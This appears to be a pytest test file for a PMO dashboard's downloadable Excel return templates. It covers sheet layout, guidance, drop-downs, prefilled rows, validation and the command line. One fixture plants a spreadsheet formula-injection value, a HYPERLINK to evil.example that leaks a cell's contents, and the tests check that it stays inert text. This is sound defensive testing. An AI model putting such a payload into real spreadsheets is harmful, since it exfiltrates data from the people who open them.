"""The XLSX templates a PMO head downloads: the contract's sheets and names, guidance, drop-downs, typed
cells, the department's rows from the warehouse, hostile text kept text, and the round trip: a filled-in
template read back by the build's own reader and validation, as the Submit page will read it."""

from __future__ import annotations

import datetime as dt
import shutil
from pathlib import Path

import fastexcel
import polars as pl
import pytest
import xlsx
from conftest import copy_fixture

from pmo_dash.__main__ import main
from pmo_dash.contract import BY_NAME, TABLES
from pmo_dash.intake import TemplateError, blank_csv, template_workbook
from pmo_dash.intake.build import build
from pmo_dash.intake.ingest.read import SourceFile, discover, read
from pmo_dash.intake.ingest.validate import validate
from pmo_dash.intake.templates.guidance import guidance
from pmo_dash.intake.templates.prefill import department_tables
from pmo_dash.periods import due_date, month_end
from pmo_dash.settings import ROOT, Settings

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the ledger")'


def sheet(data: bytes, name: str) -> pl.DataFrame:
    """A sheet as the user sees it: the header, then every row (guidance first) as text."""
    grid = fastexcel.read_excel(data).load_sheet(name, header_row=0, dtypes="string").to_polars()
    return grid


def test_the_sheets_and_their_headers_are_the_contract(fixture_settings):
    data = template_workbook(fixture_settings, "FIN", "2026-10")
    names = fastexcel.read_excel(data).sheet_names
    department = [t.name for t in TABLES if t.name != "strategic_objectives"]
    assert names == ["Instructions", *department]
    assert [t.name for t in department_tables()] == department
    for table in department_tables():
        assert sheet(data, table.name).columns == table.names, table.name
        assert (
            xlsx.sheet_xml(data, table.name).find("m:sheetViews/m:sheetView/m:pane", xlsx.NS).get("ySplit")
            == "2"
        ), "the names and the guidance stay in view"
        assert xlsx.cell_style(data, table.name, "A1").get("applyFont") == "1"  # bold header


def test_the_guidance_row_says_type_requirement_unit_and_values(fixture_settings):
    data = template_workbook(fixture_settings, "FIN", "2026-10")
    guide = sheet(data, "status_reports").row(0, named=True)
    assert guide["planned_value"] == (
        "amount in £ (1250000, 1.25m or 1.2bn); required (optional for an Oversight department)"
    )
    assert guide["overall_rag"] == "one of: Red, Amber, Green; required unless delivery_confidence is given"
    assert guide["as_of"] == "date (a date cell, or YYYY-MM-DD); required; not after this month"
    assert sheet(data, "risks").row(0, named=True)["likelihood"] == "whole number; required; 1 to 5"
    assert xlsx.cell_style(data, "status_reports", "A2")["format"] == "General"
    assert xlsx.cell_style(data, "status_reports", "A2").get("applyFill") == "1"  # set apart


def test_every_enum_and_yes_no_column_has_a_drop_down(fixture_settings):
    data = template_workbook(fixture_settings, "FIN", "2026-10")
    checked = 0
    for table in department_tables():
        found = xlsx.validations(data, table.name)
        for position, column in enumerate(table.columns):
            letter = xlsx.column_letter(position)
            if column.values or column.kind == "bool":
                values = column.values or ("yes", "no")
                kind, formula, cells = found[letter]
                assert (kind, formula) == ("list", '"' + ",".join(values) + '"'), (table.name, column.name)
                first, last = cells.split(":")
                assert first == f"{letter}3" and int(last[len(letter) :]) >= 1002, cells
                checked += 1
    assert checked == sum(1 for t in department_tables() for c in t.columns if c.values or c.kind == "bool")
    assert xlsx.validations(data, "status_reports")["C"][1] == '"Red,Amber,Green"'


def test_dates_are_dates_and_money_is_formatted(fixture_settings):
    data = template_workbook(fixture_settings, "FIN", "2026-10")
    as_of = xlsx.cell(data, "status_reports", "B3")
    assert as_of.get("t") is None  # a number, not text
    assert int(as_of.find("m:v", xlsx.NS).text) == (dt.date(2026, 10, 31) - dt.date(1899, 12, 30)).days
    assert xlsx.cell_style(data, "status_reports", "B3")["format"] == "yyyy-mm-dd"
    assert xlsx.cell_style(data, "projects", "P3")["format"] == "#,##0.00"  # budget
    assert xlsx.text(data, "projects", "R3") == "no"  # mandatory, yes/no as text


def test_status_rows_are_the_projects_active_in_the_period(fixture_settings):
    # November: nobody has reported yet. FIN's active projects are FIN-P1 and FIN-P2 (FIN-P6 is
    # cancelled); HR's HR-P3 and HR-P4 (HR-P5 closed in June). Each is dated 30 November, its
    # measures empty, its forecast finish carried from its last return (HR-P4's from September).
    fin = sheet(template_workbook(fixture_settings, "FIN", "2026-11"), "status_reports").slice(1)
    assert fin.select("project_id", "as_of", "forecast_finish", "overall_rag", "planned_value").rows() == [
        ("FIN-P1", "2026-11-30 00:00:00", "2026-12-31 00:00:00", None, None),
        ("FIN-P2", "2026-11-30 00:00:00", "2027-03-31 00:00:00", None, None),
    ]
    hr = sheet(template_workbook(fixture_settings, "HR", "2026-11"), "status_reports").slice(1)
    assert hr.select("project_id", "forecast_finish").rows() == [
        ("HR-P3", "2026-12-31 00:00:00"),
        ("HR-P4", "2027-03-02 00:00:00"),
    ]
    measured = sheet(template_workbook(fixture_settings, "HR", "2026-11"), "benefit_measurements").slice(1)
    assert measured.rows() == [("HR-B1", "2026-11-30 00:00:00", None, None)]


def test_a_period_already_returned_is_prefilled_as_returned(fixture_settings):
    data = template_workbook(fixture_settings, "FIN", "2026-10")
    status = sheet(data, "status_reports").slice(1)
    assert status.select("project_id", "overall_rag", "cost_rag", "planned_value", "summary").rows() == [
        ("FIN-P1", "Green", "Amber", "600", "Recovering"),
        ("FIN-P2", "Green", "Green", "1000", "On track"),
    ]
    # The other tables hold all the department's rows: a submitted sheet replaces its table whole.
    assert sheet(data, "projects").slice(1)["project_id"].to_list() == ["FIN-P1", "FIN-P2", "FIN-P6"]
    assert sheet(data, "risks").slice(1)["risk_id"].to_list() == ["FIN-R1", "FIN-R2", "FIN-R3"]
    assert sheet(data, "risk_reviews").slice(1).height == 4
    assert sheet(data, "departments").slice(1).rows() == [
        ("FIN", "Finance", "Corporate", "Ada Byron", None, None, None)
    ]
    assert sheet(data, "capacity").height == 1  # the guidance only: FIN returns no capacity


def test_instructions_name_the_period_the_due_date_and_the_rules(fixture_settings):
    data = template_workbook(fixture_settings, "FIN", "2026-10")
    lines = fastexcel.read_excel(data).load_sheet("Instructions", header_row=None, dtypes="string")
    text = "\n".join(v for v in lines.to_polars()[:, 0].to_list() if v)
    assert "Return of Finance (FIN) for October 2026" in text
    assert "by Friday 6 November 2026" in text  # 31 October is a Saturday: five working days on
    assert 'type "withheld"' in text and "Amounts are in £" in text
    assert (
        "status_reports: one row per project per reporting period; key project_id, as_of; rows pre-filled: 2."
        in text
    )


def test_due_date_counts_working_days():
    assert due_date(dt.date(2026, 10, 31), 5) == dt.date(2026, 11, 6)
    assert due_date(dt.date(2026, 11, 30), 5) == dt.date(2026, 12, 7)
    assert month_end(dt.date(2028, 2, 3)) == dt.date(2028, 2, 29)


@pytest.mark.parametrize(
    ("department", "period", "message"),
    [
        ("XYZ", "2026-10", "no department 'XYZ' in the warehouse (it holds: FIN, HR)"),
        ("FIN", "2026-13", "'2026-13' is not a period: give a month as YYYY-MM, for example 2026-10"),
        ("FIN", "Oct 2026", "not a period"),
        ("FIN", "2026-05", "before the warehouse's first period (2026-06)"),
        ("FIN", "2099-01", "2099-01 has not begun"),
    ],
)
def test_a_template_that_cannot_be_made_says_why(fixture_settings, department, period, message):
    with pytest.raises(TemplateError, match=message.replace("(", r"\(").replace(")", r"\)")):
        template_workbook(fixture_settings, department, period)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Settings:
    """The fixture's returns with a formula for a project name and a withheld budget, built apart."""
    out = tmp_path_factory.mktemp("hostile")
    source = copy_fixture(out / "returns")
    projects = pl.read_csv(source / "FIN" / "projects.csv", infer_schema=False)
    projects = projects.with_columns(
        pl.when(pl.col("project_id") == "FIN-P1").then(pl.lit(HOSTILE_NAME)).otherwise("name").alias("name"),
        pl.when(pl.col("project_id") == "FIN-P2")
        .then(pl.lit("Withheld"))
        .otherwise("budget")
        .alias("budget"),
    )
    projects.write_csv(source / "FIN" / "projects.csv")
    # Its own warehouse and report: Settings also reads the session's PMO_WAREHOUSE (the shared one).
    settings = Settings(
        data_dir=out, source_dir=source, warehouse=out / "warehouse.duckdb", report=out / "report.csv"
    )
    build(settings)
    return settings


def test_a_formula_from_the_warehouse_is_written_as_text(hostile):
    data = template_workbook(hostile, "FIN", "2026-10")
    assert xlsx.text(data, "projects", "D3") == HOSTILE_NAME
    assert xlsx.cell_style(data, "projects", "D3").get("quotePrefix") == "1"  # stays text when edited
    files = xlsx.parts(data)
    assert not any(b"<f>" in content or b"<f " in content for content in files.values())
    assert not any("hyperlink" in name.lower() for name in files) and b"<hyperlink" not in b"".join(
        files.values()
    )
    assert xlsx.text(data, "projects", "P4") == "withheld"  # FIN-P2's budget, withheld as returned


def returned(source: Path, department: str, book: Path, settings: Settings) -> dict:
    """Every return validated as the build does, the department's from the workbook's sheets by name."""
    files = [f for f in discover(source) if f.folder != department]
    files += [
        SourceFile(book, f"{department}/workbook.xlsx", t.name, department, sheet=t.name)
        for t in department_tables()
    ]
    tables: dict = {}
    latest = month_end(dt.date.today())
    for table in TABLES:
        mine = [read(f) for f in files if f.table == table.name]
        tables[table.name] = validate(
            table, mine, tables, settings.day_first_formats, settings.enterprise_folder, latest, ("withheld",)
        )
    return tables


def test_a_filled_in_template_reads_back_accepted_with_its_change(hostile, tmp_path):
    # FIN-P1 reported Green in October; the PMO head changes it to Red and submits the workbook.
    data = template_workbook(hostile, "FIN", "2026-10")
    assert (
        xlsx.text(data, "status_reports", "C3") == "Green"
        and xlsx.text(data, "status_reports", "A3") == "FIN-P1"
    )
    book = tmp_path / "workbook.xlsx"
    book.write_bytes(xlsx.with_text(data, "status_reports", "C3", "Red"))
    tables = returned(hostile.source_dir, "FIN", book, hostile)
    problems = pl.concat([t.problems for t in tables.values()])
    assert problems.is_empty(), problems.to_dicts()
    status = tables["status_reports"].accepted.filter(pl.col("__folder") == "FIN")
    assert status.select("project_id", "overall_rag", "__row").rows() == [
        ("FIN-P1", "Red", 3),
        ("FIN-P2", "Green", 4),
    ]
    projects = tables["projects"].accepted.filter(pl.col("__folder") == "FIN")
    assert projects["name"].to_list()[0] == HOSTILE_NAME  # read back exactly, never run
    assert tables["projects"].withheld.select("row", "column").rows() == [(4, "budget")]
    # Every department table was read back, none with a row lost or added.
    for table in department_tables():
        accepted = tables[table.name].accepted.filter(pl.col("__folder") == "FIN").height
        assert accepted == len(sheet(data, table.name)) - 1, table.name


def test_a_changed_guidance_row_is_read_as_data_and_rejected(fixture_settings, tmp_path):
    data = template_workbook(fixture_settings, "FIN", "2026-10")
    book = tmp_path / "workbook.xlsx"
    book.write_bytes(xlsx.with_text(data, "risks", "E2", "3"))  # a likelihood typed into the guidance
    source = SourceFile(book, "FIN/workbook.xlsx", "risks", "FIN", sheet="risks")
    assert read(source).frame["__row"].to_list() == [2, 3, 4, 5]


def test_the_blank_csv_templates_are_the_contract(tmp_path):
    for table in TABLES:
        assert blank_csv(table.name) == (",".join(table.names) + "\n").encode()
        shipped = ROOT / "docs" / "templates" / f"{table.name}.csv"
        assert shipped.read_bytes() == blank_csv(table.name), "docs/templates is stale: run `make docs`"
        (tmp_path / "FIN").mkdir(exist_ok=True)
        shutil.copy(shipped, tmp_path / "FIN" / shipped.name)
    found = {f.table for f in discover(tmp_path)}
    assert found == set(BY_NAME)
    assert guidance(BY_NAME["projects"].column("mandatory")) == "yes or no; optional"


def test_the_command_line_writes_one_workbook_per_department(fixture_settings, tmp_path, capsys):
    assert main(["templates", "--out", str(tmp_path / "out")]) == 0
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["FIN-2026-10.xlsx", "HR-2026-10.xlsx"]
    assert (
        main(["templates", "--out", str(tmp_path / "one"), "--department", "HR", "--period", "2026-09"]) == 0
    )
    assert [p.name for p in (tmp_path / "one").iterdir()] == ["HR-2026-09.xlsx"]
    capsys.readouterr()
    assert main(["templates", "--out", str(tmp_path / "bad"), "--department", "NOPE"]) == 1
    assert main(["templates", "--out", str(tmp_path / "bad"), "--period", "2026/10"]) == 1
    err = capsys.readouterr().err
    assert "no department NOPE in the warehouse (it holds: FIN, HR)" in err
    assert "'2026/10' is not a period" in err and "Traceback" not in err
    assert not (tmp_path / "bad").exists()
